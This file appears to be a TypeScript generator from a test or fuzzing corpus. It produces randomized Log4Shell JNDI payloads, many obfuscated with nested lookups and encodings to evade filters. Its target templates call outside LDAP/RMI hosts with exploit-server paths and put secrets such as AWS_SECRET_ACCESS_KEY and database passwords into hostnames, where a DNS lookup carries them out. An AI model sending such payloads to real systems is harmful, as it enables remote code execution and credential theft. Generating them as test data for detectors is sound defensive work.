// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold "${" by nature
/** JNDI look-ups in log messages (Log4Shell), plain and hidden behind nested look-ups. */

import { grammar, lines } from "../lib/grammar.ts";
import { LEXICON } from "../lib/lexicon.ts";
import type { Random } from "../lib/random.ts";

const RULES = grammar({
  ...LEXICON,
  start: [
    ["${«jndi»:«protocol»«sep»«target»}", 14],
    ["${«jndi»:«protocol»«sep»«target»}«rnd»", 1],
    ["«rnd»${«jndi»:«protocol»«sep»«target»}", 1],
    ["%24%7Bjndi:«protocol»«sep»«target»%7D", 1],
    ["${${«lookup»}${«lookup»}${«lookup»}:«protocol»«sep»«target»}", 1],
    ["${«envlookup»}", 1],
    ["${jndi:${«lower»:l}${«lower»:d}a${«lower»:p}«sep»«target»}", 1],
    ["\\u0024\\u007bjndi:«protocol»«sep»«target»\\u007d", 0.5],
    ["$%7Bjndi:«protocol»«sep»«target»%7D", 0.5],
    ["${jn${«lookup»}di:«protocol»«sep»«target»}", 0.5],
    ["$jndi{«protocol»«sep»«target»}", 0.2],
    ["&dollar;&lcub;jndi:«protocol»«sep»«target»&rcub;", 0.2],
    ["${::-${::-$${::-j}}}", 0.1],
    ["t('${«jndi»:«protocol»«sep»«target»}')", 0.3],
    ["'${«jndi»:«protocol»«sep»«target»}'", 0.3],
    ["Mozilla/5.0 ${«jndi»:«protocol»«sep»«target»}", 0.5],
    ['{"«rnd»":"${«jndi»:«protocol»«sep»«target»}"}', 0.4],
    [
      "${«base64|bundle|ctx|date|docker|event|hostName|java|k8s|log4j|main|map|marker|sd|spring|sys|web|env|script|url|lower|upper»:«rnd»}",
      1,
    ],
  ],
  jndi: (rng) => hide(rng, "jndi"),
  protocol: (rng) =>
    hide(
      rng,
      rng.pick([
        "ldap",
        "ldap",
        "ldap",
        "ldaps",
        "rmi",
        "rmi",
        "dns",
        "dns",
        "nis",
        "nds",
        "corba",
        "iiop",
        "http",
        "https",
      ]),
    ),
  sep: [
    "://",
    "://",
    "://",
    "://",
    ":/",
    ":${::-/}/",
    ":${::-/}${::-/}",
    ":\\/\\/",
    "//",
    "${env:«rnd»:-:}//",
    ":/${lower:/}",
    "${lower::}//",
    "${::-:}//",
    ":////",
  ],
  target: lines`
    «host»/«rnd»
    «host»:«port»/«rnd»
    «ip»:1389/«Basic/Command/Base64/«base64»|Exploit|Object|«rnd»|TomcatBypass/Command/Base64/«base64»|o=«rnd»|Deserialization/URLDNS/«host»|#«rnd»»
    «rndmix».«oastword»/«rndmix»
    «rndmix».«oastword»
    \${hostName}.«host»/«letter»
    \${«envlookup»}.«host»/«rnd»
    \${env:«USER|HOSTNAME|PATH|AWS_SECRET_ACCESS_KEY|«Rnd»»}.«host»/«rnd»
    \${sys:«java.version|os.name|user.name|java.vendor»}.«rndmix».«oastword»/«letter»
    127.0.0.1#«host»:«port»/«letter»
    «rnd».\${lower:«rnd»}.«host»/«rnd»
    x\${hostName}.L4J.«rndmix».canarytokens.com/«letter»
    log4shell-generic-«rndmix»\${lower:ten}.w.nessus.org/nessus
    \${lower:«host»}/«rnd»
    «host»:«port»/\${java:«version|os|vm|runtime|hw»}
    uri-\${hostname}.\${env:«Rnd»}.«host»/«rnd»`,
  lookup: [
    "::-j",
    "::-n",
    "::-d",
    "::-i",
    "lower:j",
    "upper:j",
    "env:«Rnd»:-j",
    "env:«rnd»:-n",
    "lower:${upper:j}",
    "sys:«rnd»:-d",
    ":-i",
    "date:'j'",
    "::-${::-j}",
  ],
  lower: ["lower", "upper", "lower", "LOWER", "lOwEr", "::-", "env:«Rnd»:-", "sys:«rnd»:-"],
  envlookup: [
    "env:«USER|HOSTNAME|HOME|PATH|AWS_ACCESS_KEY_ID|AWS_SECRET_ACCESS_KEY|DB_PASSWORD|«Rnd»»",
    "sys:«user.home|java.version|os.name|«rnd»»",
    "java:«version|os|vm»",
    "hostName",
    "docker:«imageName|containerId»",
    "k8s:«accountName|podName»",
    "bundle:application:spring.datasource.password",
    "ctx:«rnd»",
    "main:«digit»",
  ],
});

/** Some letters of a word each behind a look-up that yields it. */
function hide(rng: Random, word: string): string {
  if (rng.chance(0.45))
    return rng.chance(0.85) ? word : [...word].map((c) => (rng.chance(0.5) ? c.toUpperCase() : c)).join("");
  const share = rng.pick([0.25, 0.5, 1]);
  const wrap = (c: string) => {
    const name = String.fromCharCode(rng.int(97, 122)).repeat(rng.int(1, 2));
    return rng.pick([
      `\${lower:${c}}`,
      `\${upper:${c}}`,
      `\${::-${c}}`,
      `\${env:${name}:-${c}}`,
      `\${env:ENV_NAME:-${c}}`,
      `\${${name}:${name}:-${c}}`,
      `\${:-${c}}`,
      `\${date:'${c}'}`,
      `\${lower:\${upper:${c}}}`,
      `\${sys:${name}:-${c}}`,
      `\${${name}:\\\\:-${c}}`,
    ]);
  };
  const out = [...word].map((c) => (rng.chance(share) ? wrap(c) : c)).join("");
  return out === word ? wrap(word) : out;
}

/** A Log4Shell payload. */
export function log4shell(rng: Random): string {
  return RULES(rng);
}
